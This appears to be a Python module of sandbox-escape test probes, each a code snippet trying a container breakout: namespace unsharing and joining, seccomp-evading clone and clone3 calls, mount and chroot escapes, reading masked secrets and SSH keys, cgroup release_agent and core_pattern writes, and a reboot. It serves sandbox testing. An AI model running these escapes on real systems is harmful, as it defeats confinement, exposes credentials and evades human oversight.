"""Attacks on the walls themselves: mounts, namespaces, roots, control groups and the machine."""

from __future__ import annotations

from attack_probe import Probe

_MAP_ROOT = """
uid, gid = os.getuid(), os.getgid()
syscall("unshare", 0x10020000)
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
    with open("/proc/self/" + name, "w") as file:
        file.write(text)
"""


def _unshared(name: str, flag: int, why: str) -> Probe:
    return Probe(
        f"unshares-the-{name}-namespace",
        "namespaces",
        why,
        f"syscall('unshare', {flag:#x})\ngot()\n",
        root=flag != 0x10000000,
    )


def _joined(name: str) -> Probe:
    return Probe(
        f"joins-the-{name}-namespace",
        "namespaces",
        "Whoever can enter the namespace of another process is out of its own.",
        f"""
for pid in (W["victim"], W["host_pid"], 1, os.getppid(), "self"):
    try:
        syscall("setns", os.open(f"/proc/{{pid}}/ns/{name}", os.O_RDONLY), 0)
        got()
        break
    except OSError as error:
        print(error)
""",
        root=True,
    )


PROBES = (
    _unshared(
        "user", 0x10000000, "A new user namespace makes anybody root over new surfaces."
    ),
    _unshared(
        "mount",
        0x20000,
        "In a mount namespace of its own a guest uncovers what is masked.",
    ),
    _unshared(
        "network", 0x40000000, "In a network of its own a guest may do as root does."
    ),
    _unshared(
        "process",
        0x20000000,
        "A process namespace hides processes from who counts them.",
    ),
    _unshared("ipc", 0x8000000, "An IPC namespace has its own limits."),
    _unshared("uts", 0x4000000, "A guest with a host name of its own deceives."),
    _unshared(
        "cgroup",
        0x2000000,
        "A view of control groups of its own comes before an escape.",
    ),
    _unshared("time", 0x80, "A guest with a clock of its own deceives."),
    _joined("mnt"),
    _joined("net"),
    _joined("ipc"),
    _joined("uts"),
    _joined("cgroup"),
    Probe(
        "joins-by-pidfd",
        "namespaces",
        "One descriptor of a process enters all of its namespaces at once.",
        """
pidfd = syscall("pidfd_open", os.getpid(), 0)
syscall("setns", pidfd, 0x4C000000)
got()
""",
        root=True,
    ),
    Probe(
        "clones-a-user-namespace",
        "namespaces",
        "clone makes the same namespaces as unshare does.",
        """
child = syscall("clone", 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
if not child:
    os._exit(0)
os.wait()
got()
""",
    ),
    Probe(
        "clones-with-high-bits",
        "namespaces",
        "A filter that compares 64 bits does not see the flag below a bit that nobody reads.",
        """
child = syscall("clone", 1 << 40 | 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
if not child:
    os._exit(0)
os.wait()
got()
""",
    ),
    Probe(
        "clones-by-structure",
        "namespaces",
        "clone3 takes its flags from memory, where no filter looks.",
        """
child = syscall("clone3", struct.pack("=8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64)
if not child:
    os._exit(0)
os.wait()
got()
""",
    ),
    Probe(
        "becomes-root-of-a-namespace",
        "setuid",
        "Root of a user namespace holds every capability over what it makes there.",
        _MAP_ROOT + "if os.getuid() == 0:\n    got()\n",
    ),
    Probe(
        "mounts-as-root-of-a-namespace",
        "mounts",
        "Any user who may make namespaces may mount, and mount over what is masked.",
        _MAP_ROOT + "syscall('mount', b'none', b'/tmp', b'tmpfs', 0, 0)\ngot()\n",
    ),
    Probe(
        "uncovers-in-a-namespace",
        "mounts",
        "A mask that is a mount is taken away where a guest may unmount.",
        """
try:
    syscall("unshare", 0x10020000)
except OSError as error:
    print(error)
for path in W["secrets"] + ["/proc/keys", "/proc/sys/kernel/random/boot_id"]:
    try:
        syscall("umount2", path.encode(), 2)
    except OSError as error:
        print(error)
shown(*W["secrets"])
""",
    ),
    Probe(
        "mounts-a-tmpfs",
        "mounts",
        "A mount of the guest's own hides or shows files to others.",
        "syscall('mount', b'none', b'/tmp', b'tmpfs', 0, 0)\ngot()\n",
        control="confined",
        root=True,
    ),
    Probe(
        "mounts-another-proc",
        "mounts",
        "A fresh /proc has none of the masks.",
        """
os.makedirs("/tmp/proc")
syscall("mount", b"proc", b"/tmp/proc", b"proc", 0, 0)
show("/tmp/proc/cmdline")
got()
""",
        control="confined",
        root=True,
    ),
    Probe(
        "binds-what-is-masked",
        "mounts",
        "A folder bound elsewhere without what lies upon it shows what is masked.",
        """
os.makedirs("/tmp/bound")
syscall("mount", b".", b"/tmp/bound", b"", 4096, 0)
got()
shown("/tmp/bound/.env", "/tmp/bound/server.key")
""",
        control="confined",
        root=True,
    ),
    Probe(
        "remounts-writable",
        "mounts",
        "What is only read is written once its mount is made writable.",
        """
for path in (b"/usr", b"/", W["project"].encode()):
    try:
        syscall("mount", b"none", path, b"none", 4096 | 32, 0)
        got()
    except OSError as error:
        print(error)
open(W["project"] + "/README.md", "a").write("evil")
""",
        control="confined",
        root=True,
    ),
    Probe(
        "remounts-by-attributes",
        "mounts",
        "The newer call changes the same attributes.",
        """
for path in (W["project"], "/usr", "/tmp", "/"):
    try:
        syscall("mount_setattr", -100, path.encode(), 0, struct.pack("=4Q", 0, 1, 0, 0), 32)
        got()
        break
    except OSError as error:
        print(error)
""",
        control="confined",
        root=True,
    ),
    Probe(
        "mounts-by-descriptors",
        "mounts",
        "The newer calls make a file system without ever calling mount.",
        """
context = syscall("fsopen", b"tmpfs", 0)
syscall("fsconfig", context, 6, 0, 0, 0)
mounted = syscall("fsmount", context, 0, 0)
os.close(os.open("file", os.O_CREAT | os.O_WRONLY, dir_fd=mounted))
got()
""",
        root=True,
    ),
    Probe(
        "copies-a-tree-of-mounts",
        "mounts",
        "A detached copy of a folder's mount lies beside everything that masks it.",
        """
tree = syscall("open_tree", -100, b".", 1)
got()
for name in (".env", "server.key"):
    print(os.read(os.open(name, os.O_RDONLY, dir_fd=tree), 4096))
""",
        root=True,
    ),
    Probe(
        "moves-a-mount",
        "mounts",
        "A mount that is moved away leaves what it covered.",
        """
tree = syscall("open_tree", -100, b".", 1)
os.makedirs("/tmp/moved")
syscall("move_mount", tree, b"", -100, b"/tmp/moved", 4)
got()
""",
        control="confined",
        root=True,
    ),
    Probe(
        "reconfigures-a-file-system",
        "mounts",
        "The options of a file system are those of everybody who has it mounted.",
        "syscall('fspick', -100, b'/tmp', 0)\ngot()\n",
        root=True,
    ),
    Probe(
        "overlays-what-is-read",
        "mounts",
        "An overlay of the guest's own makes files with any attributes.",
        """
for name in ("lower", "upper", "work", "merged"):
    os.makedirs("/tmp/" + name)
options = b"lowerdir=/tmp/lower,upperdir=/tmp/upper,workdir=/tmp/work"
syscall("mount", b"overlay", b"/tmp/merged", b"overlay", 0, options)
got()
""",
        control="confined",
        root=True,
    ),
    Probe(
        "mounts-fuse",
        "mounts",
        "A file system that a guest answers for stops the host wherever the host looks into it.",
        """
device = os.open("/dev/fuse", os.O_RDWR)
options = f"fd={device},rootmode=40000,user_id={os.getuid()},group_id={os.getgid()}"
os.makedirs("/tmp/fuse")
syscall("mount", b"fuse", b"/tmp/fuse", b"fuse", 0, options.encode())
got()
""",
        control="confined",
        root=True,
    ),
    Probe(
        "pivots-the-root",
        "chroot",
        "A new root shows the old one below it, without what was laid over it.",
        """
os.makedirs("/tmp/root")
syscall("mount", b"none", b"/tmp/root", b"tmpfs", 0, 0)
os.makedirs("/tmp/root/old")
syscall("pivot_root", b"/tmp/root", b"/tmp/root/old")
got()
""",
        control="confined",
        root=True,
    ),
    Probe(
        "changes-the-root",
        "chroot",
        "A root of the guest's own makes setuid programs read forged files.",
        "syscall('chroot', b'/tmp')\ngot()\n",
        root=True,
    ),
    Probe(
        "leaves-the-root-twice-changed",
        "chroot",
        "Who changes the root while standing outside of the new one climbs up past the old one.",
        """
os.makedirs("/tmp/jail")
outside = os.open(".", os.O_RDONLY)
try:
    os.chroot("/tmp/jail")
except OSError as error:
    print(error)
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
try:
    os.chroot(".")
except OSError as error:
    print(error)
shown(*W["secrets"])
""",
        root=True,
    ),
    Probe(
        "climbs-by-a-kept-folder",
        "chroot",
        "A descriptor of a folder of the host that was left open leads to all of it.",
        """
for number in range(3, 64):
    try:
        here = os.open("../../home/dev/.ssh/id_ed25519", os.O_RDONLY, dir_fd=number)
        print(os.read(here, 4096))
    except OSError:
        pass
""",
    ),
    Probe(
        "makes-a-device",
        "mounts",
        "A device node reads the disk or the memory of the machine.",
        """
for folder in ("out", "/tmp", "/dev/shm"):
    try:
        path = folder + "/device"
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 11))
        os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        got()
    except OSError as error:
        print(error)
""",
        root=True,
    ),
    Probe(
        "release-agent-of-a-group",
        "cgroup",
        "The kernel runs a group's release agent as root of the host, outside of everything.",
        """
os.makedirs("/tmp/group")
for kind, options in ((b"cgroup", b"none,name=goobits"), (b"cgroup", b"memory")):
    try:
        syscall("mount", b"none", b"/tmp/group", kind, 0, options)
        os.open("/tmp/group/release_agent", os.O_WRONLY)
        got()
        break
    except OSError as error:
        print(error)
""",
        control="confined",
        root=True,
    ),
    Probe(
        "mounts-control-groups",
        "cgroup",
        "A mount of the control groups shows every group of the host, and lets root leave its own.",
        """
os.makedirs("/tmp/group")
syscall("mount", b"none", b"/tmp/group", b"cgroup2", 0, 0)
os.open("/tmp/group/cgroup.procs", os.O_WRONLY)
got()
""",
        control="confined",
        root=True,
    ),
    Probe(
        "joins-another-group",
        "cgroup",
        "Whoever leaves its group leaves the group's limits.",
        """
for path in sorted(glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True))[:50]:
    try:
        os.open(path, os.O_WRONLY)
        got()
        break
    except OSError as error:
        print(error)
""",
        root=True,
    ),
    Probe(
        "helper-of-the-kernel",
        "core",
        "The program that takes core dumps is run by the kernel as root of the host.",
        """
for name in ("core_pattern", "poweroff_cmd", "hotplug", "modprobe"):
    try:
        os.open("/proc/sys/kernel/" + name, os.O_WRONLY)
        got()
    except OSError as error:
        print(error)
""",
        root=True,
    ),
    Probe(
        "settings-of-the-machine",
        "proc",
        "Settings of the kernel are those of the whole machine.",
        """
for name in ("vm/drop_caches", "vm/overcommit_memory", "kernel/printk", "fs/suid_dumpable"):
    try:
        os.open("/proc/sys/" + name, os.O_WRONLY)
        got()
    except OSError as error:
        print(error)
""",
        root=True,
    ),
    Probe(
        "name-of-the-host",
        "identity",
        "A host with another name is another host to whatever looks at it.",
        "syscall('sethostname', b'evil', 4)\ngot()\n",
        control="confined",
        root=True,
    ),
    Probe(
        "domain-of-the-host",
        "identity",
        "The domain's name is set by the call beside it.",
        "syscall('setdomainname', b'evil', 4)\ngot()\n",
        control="confined",
        root=True,
    ),
    Probe(
        "restarts-its-namespace",
        "signals",
        "A restart ends every process of the namespace, and on a host the machine.",
        """
try:
    syscall("unshare", 0x20000000)
except OSError as error:
    print(error)
child = os.fork()
if not child:
    try:
        syscall("reboot", 0xFEE1DEAD, 672274793, 0x01234567, 0)
    finally:
        os._exit(1)
if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == -signal.SIGHUP:
    got()
""",
        control="confined",
        root=True,
    ),
)
